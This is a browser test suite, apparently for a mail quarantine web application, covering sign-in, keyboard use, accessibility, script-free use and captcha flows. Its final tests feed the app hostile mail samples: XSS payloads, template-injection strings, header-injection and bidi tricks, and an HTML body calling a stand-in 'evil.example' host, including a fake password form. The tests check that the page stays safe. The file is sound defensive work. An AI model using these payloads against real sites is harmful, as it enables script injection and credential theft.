@@ -1,0 +1,401 @@
+"""In Chromium: flows at desk and phone width, keys, accessibility, no script, and mail that means harm."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import replace
+from email.message import EmailMessage
+from email.policy import SMTP
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from tamis.lists import Colour, Subject
+from tamis.quarantine.entries import NewEntry
+from tamis.quarantine.records import State
+from tamis.tokens import Purpose
+from tamis.web.visit import SESSION
+from tests.web.browser import DESKTOP, PHONE, context_of
+from tests.web.pages import CODE, MARIE, Pages
+from tests.web.samples import LISTED, content, message
+
+SIZES = {"desk": DESKTOP, "phone": PHONE}
+
+
+@contextmanager
+def opened(
+    browser: Browser,
+    pages: Pages,
+    *,
+    signed_in: str = "",
+    size: tuple[int, int] = DESKTOP,
+    language: str = "en",
+    dark: bool = False,
+    javascript: bool = True,
+) -> Iterator[Page]:
+    """A tab. What goes wrong in it fails the test: an error of a script, a refusal by the policy, a foreign request."""
+    context = context_of(browser, size=size, language=language, dark=dark, javascript=javascript)
+    context.set_default_timeout(15_000)
+    if signed_in:
+        sign_in(context, pages, signed_in)
+    troubles: list[str] = []
+    context.on("request", lambda r: None if r.url.startswith(pages.url + "/") else troubles.append(r.url))
+    context.on("console", lambda m: troubles.append(m.text) if m.type == "error" else None)
+    context.on("weberror", lambda e: troubles.append(str(e.error)))
+    context.on("dialog", lambda d: troubles.append(d.message))
+    try:
+        tab = context.new_page()
+        yield tab
+        tab.wait_for_load_state("networkidle")
+        # a form that was filled in wrongly is answered 422, which Chromium puts on its console
+        assert [t for t in troubles if "status of 422" not in t] == []
+    finally:
+        context.close()
+
+
+def sign_in(context: BrowserContext, pages: Pages, address: str) -> None:
+    context.add_cookies([{"name": SESSION, "value": pages.session(address), "url": pages.url}])
+
+
+def no_overflow(tab: Page) -> None:
+    """Nothing is wider than the window."""
+    wide = tab.evaluate("() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]")
+    assert wide[0] <= wide[1], f"{tab.url} is {wide[0]} wide in {wide[1]}"
+
+
+def accessible(tab: Page) -> None:
+    """axe finds nothing: WCAG 2.2 A and AA, and best practices."""
+    found = Axe().run(tab)
+    assert len(found.response["passes"]) > 10
+    assert found.violations_count == 0, f"{tab.url}\n{found.generate_report()}"
+
+
+def fill(pages: Pages) -> list[str]:
+    """A list as people have it; the ids, newest last."""
+    return [
+        pages.hold(
+            message(n, header_from=author, subject=subject, decided_by=decided_by, age=age),
+            content(html="<h2>Devis</h2><p>Bonjour <b>Marie</b></p>", files={"devis.pdf": b"x" * 45_000}),
+        )
+        for n, (author, subject, decided_by, age) in reversed(list(enumerate(LISTED)))
+    ]
+
+
+def ask(pages: Pages, number: int = 90) -> tuple[str, str]:
+    held, challenge = pages.store.challenges.hold_asked(
+        message(number), content(), language="en", authenticated=True
+    )
+    return held, f"/c/{pages.token(Purpose.CHALLENGE, challenge)}"
+
+
+def state(pages: Pages, number: str) -> State:
+    record = pages.store.quarantine.get(number)
+    assert record is not None
+    return record.summary.state
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_a_recipient_signs_in_reads_and_delivers(browser: Browser, pages: Pages, size: str) -> None:
+    fill(pages)
+    with opened(browser, pages, size=SIZES[size]) as tab:
+        tab.goto(pages.url)
+        tab.get_by_label("Your mail address").fill(MARIE)
+        tab.get_by_role("button", name="Send me the link").click()
+        expect(tab.get_by_role("heading", name="Look into your mailbox")).to_be_visible()
+        pages.wait_for_mail(1)
+        tab.goto(pages.url + pages.mailed_link())
+        tab.get_by_role("button", name="Show my held mail").click()
+        expect(tab.get_by_role("heading", name="Held for you 7")).to_be_visible()
+        no_overflow(tab)
+        tab.get_by_role("link", name="Votre devis").click()
+        expect(tab.get_by_text("Voici le devis que vous avez demandé.")).to_be_visible()
+        tab.get_by_text("Show the formatting").click()
+        frame = tab.frame_locator("iframe")
+        expect(frame.get_by_role("heading", name="Devis")).to_be_visible()
+        tab.get_by_text("What every filter saw").click()
+        expect(tab.get_by_role("row", name=re.compile("reverse dns.*decided"))).to_be_visible()
+        no_overflow(tab)
+        tab.get_by_role("button", name=re.compile("^Deliver")).click()
+        expect(tab.get_by_role("status")).to_contain_text("Delivered.")
+        expect(tab.get_by_role("heading", name="Held for you 6")).to_be_visible()
+    assert pages.postbox.got[-1].recipients == [MARIE]
+
+
+def test_everything_by_keys(browser: Browser, pages: Pages) -> None:
+    numbers = fill(pages)[::-1]
+    with opened(browser, pages, signed_in=MARIE) as tab:
+        tab.goto(f"{pages.url}/mail")
+        press = tab.keyboard.press
+        focused = tab.locator(":focus")
+        press("j")
+        expect(focused).to_have_text("Votre devis")
+        for key, subject in (("j", "Photos du week-end"), ("j", LISTED[2][1]), ("k", "Photos du week-end")):
+            press(key)
+            expect(focused).to_have_text(subject)
+        press("x")  # delete
+        expect(tab.get_by_role("status")).to_contain_text("Deleted.")
+        expect(focused).to_have_text(LISTED[2][1])  # goes on where one was
+        press("z")  # undo
+        expect(tab.get_by_role("status")).to_contain_text("The message is back.")
+        assert state(pages, numbers[1]) is State.HELD
+        expect(focused).to_have_text("Photos du week-end")
+        press("d")  # deliver
+        expect(tab.get_by_role("status")).to_contain_text("Delivered.")
+        press("a")  # always allow the next one, on which the focus is
+        expect(tab.get_by_role("status")).to_contain_text("news@offers.example.net will always reach you")
+        press("Enter")
+        expect(tab.get_by_role("heading", level=1)).to_have_text(LISTED[3][1])
+        press("u")
+        expect(tab.get_by_role("heading", name="Held for you 5")).to_be_visible()
+        press("/")
+        tab.keyboard.type("2041")
+        press("Enter")
+        expect(tab.get_by_role("link", name="Invoice 2041")).to_be_visible()
+        expect(tab.locator("[data-open]")).to_have_count(1)
+    assert [state(pages, n) for n in numbers[1:3]] == [State.RELEASED, State.RELEASED]
+
+
+def visited(pages: Pages) -> dict[str, str]:
+    """Every page that is not signed in, and every one that is, by a name."""
+    number = fill(pages)[-1]
+    pages.store.lists.add(
+        [
+            NewEntry(colour=Colour.WHITE, subject=Subject.SENDER, pattern="a@b.example.net", scope=MARIE),
+            NewEntry(colour=Colour.BLACK, subject=Subject.SENDER, pattern="*.example.net", scope=MARIE),
+        ]
+    )
+    return {
+        "sign-in": "/sign-in",
+        "link": f"/sign-in/{pages.token(Purpose.SIGN_IN, MARIE, 'x')}",
+        "confirm": f"/a/{pages.token(Purpose.ACTION, MARIE, number, 'deliver')}",
+        "sender": ask(pages)[1],
+        "wrong": "/c/x",
+        "list": "/mail",
+        "nothing": "/mail?q=nothing+like+it",
+        "message": f"/mail/{number}",
+        "lists": "/lists",
+        "settings": "/settings",
+    }
+
+
+@pytest.mark.parametrize(
+    ("size", "dark"), [("desk", False), ("phone", True)], ids=["desk light", "phone dark"]
+)
+def test_every_page_is_accessible_and_fits(browser: Browser, pages: Pages, size: str, *, dark: bool) -> None:
+    paths = visited(pages)
+    with opened(browser, pages, size=SIZES[size], dark=dark, language="fr" if dark else "en") as tab:
+        for name, path in paths.items():
+            if name == "list":
+                sign_in(tab.context, pages, MARIE)
+            if name == "wrong":
+                continue  # answered 404, which Chromium calls an error: below
+            tab.goto(pages.url + path)
+            for summary in tab.get_by_role("group").locator("summary").all():
+                summary.click()
+            accessible(tab)
+            no_overflow(tab)
+        tab.goto(pages.url + paths["sender"])
+        tab.locator("form[data-other] button").click()
+        expect(tab.locator("#typed")).to_be_focused()
+        accessible(tab)
+        no_overflow(tab)
+        tab.goto(pages.url + "/mail")
+        tab.locator("button[value=delete]").first.click()
+        accessible(tab)
+
+
+def test_an_error_page_is_accessible_too(browser: Browser, pages: Pages) -> None:
+    context = context_of(browser)
+    tab = context.new_page()
+    answer = tab.goto(f"{pages.url}/c/x")
+    assert answer is not None
+    assert answer.status == 404
+    accessible(tab)
+    no_overflow(tab)
+    context.close()
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_the_proof_of_work_runs_by_itself(browser: Browser, pages: Pages, size: str) -> None:
+    held, path = ask(pages)
+    with opened(browser, pages, size=SIZES[size], language="fr") as tab:
+        tab.goto(pages.url + path)
+        expect(tab.get_by_role("heading", level=1)).to_have_text("Votre message à marie@example.com attend")
+        expect(tab.get_by_role("status")).to_have_text("prêt")
+        assert state(pages, held) is State.HELD  # nothing happens by itself
+        tab.get_by_role("button", name=re.compile("ai envoyé.: remettez-le")).click()
+        expect(tab.get_by_role("heading", level=1)).to_have_text("Message remis à marie@example.com")
+        no_overflow(tab)
+        tab.reload()
+        expect(tab.get_by_role("heading", level=1)).to_have_text("Votre message a été remis")
+    assert [mail.recipients for mail in pages.postbox.got] == [[MARIE]]
+
+
+def test_who_presses_too_early_need_not_press_again(browser: Browser, pages: Pages) -> None:
+    _, path = ask(pages)
+    with opened(browser, pages) as tab:
+        tab.goto(pages.url + path)
+        button = tab.get_by_role("button", name="I sent it")
+        expect(button).to_have_attribute("aria-disabled", "true")
+        button.click(force=True)
+        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")
+
+
+def test_something_is_in_the_way_of_the_work(browser: Browser, pages: Pages) -> None:
+    held, path = ask(pages)
+    with opened(browser, pages) as tab:
+        tab.route("**/work", lambda route: route.fulfill(status=422))  # something is in the way
+        tab.goto(pages.url + path)
+        expect(tab.get_by_role("status")).to_have_text("you will be asked for a code")
+        tab.get_by_role("button", name="I sent it").click()
+        expect(tab.get_by_label(re.compile("^Type the 6 digits"))).to_be_focused()
+        image = tab.locator("img.captcha")
+        assert image.evaluate("i => i.decode().then(() => i.naturalWidth)") == 280
+        tab.keyboard.type("999999")
+        tab.keyboard.press("Enter")
+        expect(tab.get_by_role("alert")).to_contain_text("That was not the code")
+        tab.get_by_role("button", name="Another code").click()
+        expect(tab.get_by_role("alert")).to_have_count(0)
+        expect(tab.get_by_label(re.compile("^Type the 6 digits"))).to_be_focused()
+        tab.keyboard.type(CODE)
+        tab.keyboard.press("Enter")
+        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")
+    assert state(pages, held) is State.RELEASED
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_without_javascript(browser: Browser, pages: Pages, size: str) -> None:
+    held, path = ask(pages)
+    number = fill(pages)[-1]
+    with opened(browser, pages, size=SIZES[size], javascript=False) as tab:
+        tab.goto(pages.url + path)
+        tab.get_by_role("button", name="I sent it").click()
+        tab.get_by_label(re.compile("^Type the 6 digits")).fill(CODE)
+        tab.get_by_role("button", name="I sent it").click()
+        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")
+        assert state(pages, held) is State.RELEASED
+        sign_in(tab.context, pages, MARIE)
+        tab.goto(f"{pages.url}/mail/{number}")
+        tab.get_by_role("button", name="This is spam").click()
+        expect(tab.get_by_role("status")).to_contain_text("remembered as unwanted")
+        tab.get_by_role("button", name="Undo").click()
+        assert state(pages, number) is State.HELD
+
+
+EVIL = "http://evil.example"
+SCRIPT = "<script>document.title='owned';alert(1)</script>"
+BREAKING = (
+    f'"><img src={EVIL}/i onerror=alert(1)>{SCRIPT}',
+    f"</title></bdi></a></script>{SCRIPT}<svg onload=alert(2)>",
+    "{{ 7*7 }} {% include 'base.html' %} %(sender)s {0.__class__}",
+    "\u202egnp.exe\u202c \u2066\u2067\u2068 \x00\x07\x1b[31m \u200b\u200d\ufeff",
+    "W" * 900,
+    "e" + "\u0301\u0335\u0489" * 300,
+    "\u2028\u2029\x85\r\n\tTo: victim@example.com",
+    "ﷺ" * 200 + "🏴" * 50 + "\U000e0041" * 100,
+    "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
+)
+HTML = f"""
+<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
+<link rel="stylesheet" href="{EVIL}/s.css"><link rel="prefetch" href="{EVIL}/p"><style>@import "{EVIL}/i.css";
+body {{ background: url({EVIL}/b) }} @font-face {{ font-family: x; src: url({EVIL}/f) }}</style>
+<script src="{EVIL}/x.js"></script></head>
+<body background="{EVIL}/bg" onload="alert(3)">{SCRIPT}
+<img src="{EVIL}/pixel.gif" srcset="{EVIL}/2x 2x"><img src="cid:1"><picture><source srcset="{EVIL}/pic"></picture>
+<div style="background-image: url({EVIL}/div); position: fixed; inset: 0; z-index: 9">cover</div>
+<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">
+<video src="{EVIL}/v" autoplay></video>
+<audio src="{EVIL}/a" autoplay></audio><svg><image href="{EVIL}/svg"/><use href="{EVIL}/use#x"/></svg>
+<math><mtext><table><mglyph><style><!--</style>
+<img title="--&gt;&lt;img src={EVIL}/m onerror=alert(4)&gt;"></table></math>
+<form action="{EVIL}/post"><input name="password" autofocus onfocus="alert(5)"><button>Sign in</button></form>
+<a href="{EVIL}/click" ping="{EVIL}/ping" target="_top">Click here</a><a href="javascript:alert(6)">or here</a>
+<table width="99999"><tr><td width="99999" background="{EVIL}/td">wide</td></tr></table><pre>{"x" * 5000}</pre>
+<noscript><p title="</noscript><img src={EVIL}/n onerror=alert(7)>"></noscript><template><img src={EVIL}/t></template>
+<p>the end of it</p></body></html>
+"""
+
+
+def hostile(number: int, text: str) -> tuple[str, bytes]:
+    """A subject and a content in which everything that can hold words holds these."""
+    mail = EmailMessage(policy=SMTP)
+    mail["From"] = "x@example.net"
+    mail.set_content(f"{text}\n{SCRIPT}\n", cte="base64")
+    mail.add_alternative(HTML + text.replace("\x00", ""), subtype="html", cte="base64")
+    raw = mail.as_bytes()
+    name = text.encode("utf-8").hex()
+    encoded = "".join(f"%{name[i : i + 2]}" for i in range(0, min(len(name), 1500), 2))
+    boundary = b"=_outer"
+    part = (
+        b"--=_outer\r\nContent-Type: text/x" + SCRIPT.encode() + b"; x\r\n"
+        b"Content-Disposition: attachment; filename*=utf-8''"
+        + encoded.encode()
+        + b"\r\n\r\nx\r\n--=_outer--\r\n"
+    )
+    header = f'To: "{SCRIPT}" <y@example.com>\r\nReply-To: {SCRIPT}\r\nMIME-Version: 1.0\r\n'.encode()
+    header += b'Content-Type: multipart/mixed; boundary="=_outer"\r\n\r\n'
+    return text, header + b"--" + boundary + b"\r\n" + raw + b"\r\n" + part
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_mail_that_means_harm(browser: Browser, pages: Pages, size: str) -> None:
+    """Subject, names, addresses, reasons, HTML, files: no script runs, no request leaves, the page stays whole."""
+    numbers = []
+    texts = BREAKING if size == "phone" else BREAKING[:3]  # where there is less room, more can break
+    for n, text in enumerate(texts):
+        subject, raw = hostile(n, text)
+        held = message(
+            n, subject=subject, header_from=f"{text} <x{n}@example.net>", sender=f"{text}@example.net"
+        )
+        findings = [{**f, "because": text, "facts": {"x": text}} for f in held.findings]
+        opinions = [{**o, "text": text} for o in (held.verdict or {})["opinions"]]
+        held = replace(held, findings=findings, verdict={"opinions": opinions}, because=text, message_id=text)
+        numbers.append(pages.hold(held, raw))
+    with opened(browser, pages, signed_in=MARIE, size=SIZES[size]) as tab:
+        tab.goto(f"{pages.url}/mail")
+        expect(tab.locator("[data-row]")).to_have_count(len(texts))
+        whole(tab)
+        for number in numbers:
+            tab.goto(f"{pages.url}/mail/{number}")
+            for summary in tab.locator("summary").all():
+                summary.click()
+            expect(tab.frame_locator("iframe").get_by_text("the end of it")).to_be_visible()
+            whole(tab)
+            link = tab.frame_locator("iframe").get_by_text("Click here")
+            link.click(force=True)
+            assert tab.url.startswith(pages.url)
+        for number in numbers:
+            tab.goto(f"{pages.url}/a/{pages.token(Purpose.ACTION, MARIE, number, 'delete')}")
+            whole(tab)
+
+
+def whole(tab: Page) -> None:
+    """The page is ours from top to end."""
+    no_overflow(tab)
+    assert tab.title() != "owned"
+    assert (
+        tab.locator("script:not([src]), main img[src^='http'], main svg, main form[action^='http']").count()
+        == 0
+    )
+    assert tab.locator("header.top").count() == 1
+    top, height = tab.locator("header.top").evaluate(
+        "h => [h.getBoundingClientRect().top + scrollY, h.offsetHeight]"
+    )
+    assert top == 0
+    assert height < 200
+
+
+def test_the_sender_sees_the_own_hostile_subject_harmless(browser: Browser, pages: Pages) -> None:
+    with opened(browser, pages, size=PHONE) as tab:
+        for n, text in enumerate(BREAKING):
+            _, challenge = pages.store.challenges.hold_asked(
+                message(n, subject=text, sender=f"a{n}@example.net"),
+                content(),
+                language="en",
+                authenticated=True,
+            )
+            tab.goto(f"{pages.url}/c/{pages.token(Purpose.CHALLENGE, challenge)}")
+            whole(tab)
